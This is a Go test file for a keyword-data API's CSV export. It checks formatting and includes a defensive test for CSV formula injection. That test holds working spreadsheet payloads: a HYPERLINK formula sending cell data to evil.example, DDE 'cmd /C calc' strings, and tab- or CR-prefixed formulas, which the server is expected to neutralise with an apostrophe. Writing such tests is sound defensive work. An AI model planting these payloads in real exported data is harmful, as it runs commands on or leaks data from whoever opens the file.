package serve

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/kwdata/kwdata/kw"
	"github.com/kwdata/kwdata/serve/internal/servetest"
)

// readCSV parses an RFC 4180 answer strictly: every row as wide as the
// header, CRLF line ends.
func readCSV(tb testing.TB, w *httptest.ResponseRecorder) [][]string {
	tb.Helper()
	if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8; header=present" {
		tb.Fatalf("Content-Type %q: %s", ct, w.Body)
	}
	if !bytes.HasSuffix(w.Body.Bytes(), []byte("\r\n")) {
		tb.Errorf("rows do not end in CRLF")
	}
	rows, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
	if err != nil {
		tb.Fatalf("not CSV: %v\n%s", err, w.Body)
	}
	return rows
}

func TestBulkCSV(t *testing.T) {
	ts := newTestServer(t)
	r := httptest.NewRequest("POST", "/v1/keywords", strings.NewReader(`{"country":"us","keywords":["running shoes","Trail Shoes","airgun","nope",""]}`))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Accept", "text/csv")
	w := httptest.NewRecorder()
	ts.ServeHTTP(w, r)
	if w.Code != 200 {
		t.Fatalf("status %d: %s", w.Code, w.Body)
	}
	rows := readCSV(t, w)
	want := [][]string{
		{"query", "status", "keyword", "country", "volume", "volume_range", "cpc", "competition", "yoy", "three_month", "updated", "intent", "error_code", "error"},
		{"running shoes", "200", "running shoes", "US", "301000", "", "1.23", "0.87", "900", "-12.5", "2026-11-21", "running shoes", "", ""},
		{"Trail Shoes", "200", "trail shoes", "US", "49500", "", "1.24", "0.5", "inf", "0", "2026-11-21", "running shoes", "", ""},
		{"airgun", "200", "airgun", "US", "", "", "", "", "", "", "2026-11-21", "airgun", "", ""},
	}
	if len(rows) != 6 {
		t.Fatalf("%d rows, want 6: %q", len(rows), rows)
	}
	for i, row := range want {
		if strings.Join(rows[i], "|") != strings.Join(row, "|") {
			t.Errorf("row %d = %q, want %q", i, rows[i], row)
		}
	}
	if rows[4][1] != "404" || rows[4][12] != CodeKeywordNotFound || rows[5][1] != "400" || rows[5][12] != CodeMissingQ {
		t.Errorf("error rows %q, %q", rows[4], rows[5])
	}
	if got := w.Header().Get("Content-Disposition"); got != `attachment; filename=kwdata-keywords-us.csv` {
		t.Errorf("Content-Disposition %q", got)
	}
	// Counted exactly as the JSON answer: four valid keywords.
	if sprint(ts.access.committed) != "[4]" {
		t.Errorf("committed %v", ts.access.committed)
	}
}

func TestIntentAndKeywordCSV(t *testing.T) {
	ds := newDemoServer(t)
	w := do(t, ds, "GET", "/v1/intent?q=running+shoe&country=us", http.Header{"Accept": {"text/csv"}})
	rows := readCSV(t, w)
	if len(rows) != 5 || strings.Join(rows[0], ",") != "leader,keyword,volume,cpc,overlap,country,updated" ||
		strings.Join(rows[2], ",") != "running shoes,running shoe,246000,1.19,16/20,US,2026-11-21" {
		t.Errorf("intent CSV %q", rows)
	}
	if got := w.Header().Get("Content-Disposition"); got != `attachment; filename=kwdata-intent-running-shoe-us.csv` {
		t.Errorf("Content-Disposition %q", got)
	}
	w = do(t, ds, "GET", "/v1/keyword?q=running+shoes&country=us&format=csv", nil)
	rows = readCSV(t, w)
	if len(rows) != 2 || rows[1][2] != "running shoes" || rows[1][4] != "301000" || rows[1][6] != "1.23" {
		t.Errorf("keyword CSV %q", rows)
	}
	// An error stays a problem document: CSV is for answers.
	w = do(t, ds, "GET", "/v1/intent?q=running+sandals&format=csv", nil)
	if w.Code != 404 || w.Header().Get("Content-Type") != "application/problem+json" {
		t.Errorf("404 as %q", w.Header().Get("Content-Type"))
	}
	if sprint(ds.access.committed) != "[1 1 1]" {
		t.Errorf("committed %v", ds.access.committed)
	}
	for _, page := range []string{"/keyword?q=running+shoes&country=us", "/intent?q=running+shoes&country=us"} {
		body := do(t, ds, "GET", page, nil).Body.String()
		if !strings.Contains(body, `&amp;format=csv" download>Download CSV</a>`) {
			t.Errorf("%s has no Download CSV link", page)
		}
	}
}

// TestCSVFormulaInjection: keywords come from ingested files, so a cell
// may begin like a formula. Every CSV answer (bulk, keyword, intent group)
// writes such a text cell behind an apostrophe, so that a spreadsheet
// shows it as text instead of running it; numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-1 squared`,
	}
	ts := newTestServer(t)
	var keywords []string
	for _, raw := range hostile {
		k, err := kw.NormalizeKeyword(raw)
		if err != nil {
			t.Fatalf("NormalizeKeyword(%q): %v", raw, err)
		}
		keywords = append(keywords, k)
		// The intent and the volume range come from the file too; tab and
		// carriage return are the other beginnings a spreadsheet reads as
		// a formula.
		ts.index.Add(kw.Entry{Keyword: k, Country: "US", Volume: servetest.I64(10), Intent: k, VolumeRange: "\t=1+1",
			YoYChange: servetest.F64(-50), ThreeMonthChange: servetest.F64(-12.5)})
	}
	ts.index.Add(kw.Entry{Keyword: "carriage", Country: "US", Volume: servetest.I64(10), Intent: "carriage", VolumeRange: "\r=1+1"})
	keywords = append(keywords, "carriage")

	body, _ := json.Marshal(map[string]any{"country": "us", "keywords": append(slices.Clone(hostile), "carriage")})
	r := httptest.NewRequest("POST", "/v1/keywords", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Accept", "text/csv")
	w := httptest.NewRecorder()
	ts.ServeHTTP(w, r)
	answers := map[string]*httptest.ResponseRecorder{"POST /v1/keywords": w}
	for _, k := range keywords {
		q := url.QueryEscape(k)
		answers["GET /v1/keyword "+k] = do(t, ts, "GET", "/v1/keyword?format=csv&country=us&q="+q, nil)
		answers["GET /v1/intent "+k] = do(t, ts, "GET", "/v1/intent?format=csv&country=us&q="+q, nil)
	}
	// numeric are the columns that hold numbers, by header.
	numeric := map[string]bool{"status": true, "volume": true, "cpc": true, "competition": true, "yoy": true, "three_month": true}
	for name, w := range answers {
		if w.Code != 200 {
			t.Errorf("%s: status %d: %s", name, w.Code, w.Body)
			continue
		}
		rows := readCSV(t, w)
		for _, row := range rows[1:] {
			for i, cell := range row {
				if numeric[rows[0][i]] {
					if cell != "" && cell != "inf" {
						if _, err := strconv.ParseFloat(cell, 64); err != nil {
							t.Errorf("%s: %s cell %q is not a number", name, rows[0][i], cell)
						}
					}
					continue
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: %s cell %q would run as a formula", name, rows[0][i], cell)
				}
			}
		}
		if name == "POST /v1/keywords" {
			if len(rows) != 1+len(hostile)+1 || rows[1][0] != "'"+hostile[0] || rows[1][2] != "'"+keywords[0] ||
				rows[4][2] != "'-1 squared" || rows[1][5] != "'\t=1+1" || rows[1][8] != "-50" || !strings.HasPrefix(rows[5][5], "'") {
				t.Errorf("bulk CSV %q", rows)
			}
		}
	}
}
